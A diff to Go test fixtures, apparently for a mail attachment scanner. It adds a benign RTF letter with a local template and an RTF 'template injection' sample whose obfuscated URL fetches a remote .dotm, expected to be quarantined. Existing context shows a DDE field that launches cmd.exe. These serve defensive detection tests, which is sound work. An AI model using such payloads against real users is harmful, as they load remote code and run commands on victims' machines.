@@ -121,6 +121,9 @@ func officeClean() []Sample {
 		mail{subject: "Letter with logo", root: multipart("mixed", text("The letter with our logo.\n"),
 			attach("application/rtf", "letter.rtf", []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard Dear customer,\par{\pict\pngblip\picw24\pich16\picwgoal360\pichgoal240 `+
 				hex.EncodeToString(chartPNG())+`}\par Kind regards\par}`)))})
+	add(ok("rtf-local-template", "an RTF letter naming the local Normal.dotm as its template, as Word saves it"),
+		mail{subject: "Letter", root: multipart("mixed", text("The letter as RTF.\n"),
+			attach("application/rtf", "letter.rtf", []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}{\*\template C:\\Users\\kenji\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm}\pard Dear customer,\par Kind regards\par}`)))})
 	add(ok("xlsb-sum", "a binary workbook (.xlsb) whose cells sum and join with formulas, no macro sheet"),
 		mail{subject: "Quarter", root: multipart("mixed", text("The quarter's figures.\n"),
 			attach(ctXlsb, "quarter.xlsb", f.XLSB(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Q3", Formulas: []f.XLSFormula{
@@ -217,6 +220,10 @@ func officeCases() []officeCase {
 			action: policy.Reject, subject: "Statement", body: "Your statement.\n", ctype: "application/rtf", file: "statement.rtf",
 			data:  []byte(`{\rtf1\ansi{\fonttbl{\f0 Calibri;}}\pard Statement\par{\field{\*\fldinst {\rtlch\fcs1 DDE}{AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k notepad.exe"}}{\fldrslt {x}}}}`),
 			wants: []relWant{{"heuristic", "dde-exec", ""}}},
+		{name: "rtf-remote-template", about: "RTF whose {\\*\\template} group loads a document template from a web server as Word opens it (RTF template injection)",
+			action: policy.Quarantine, subject: "Agenda", body: "The agenda for Monday.\n", ctype: "application/rtf", file: "agenda.rtf",
+			data:  []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}{\*\template \'68ttps://templates.files.example.invalid/agenda.dotm}\pard Agenda\par}`),
+			wants: []relWant{{"heuristic", "remote-template", ""}}},
 		{name: "xlsx-ddelink", about: "xlsx with an external DDE link to cmd",
 			action: policy.Reject, subject: "Figures", body: "Figures attached.\n", ctype: ctXlsx, file: "figures.xlsx",
 			data:  xlsxDDE(),
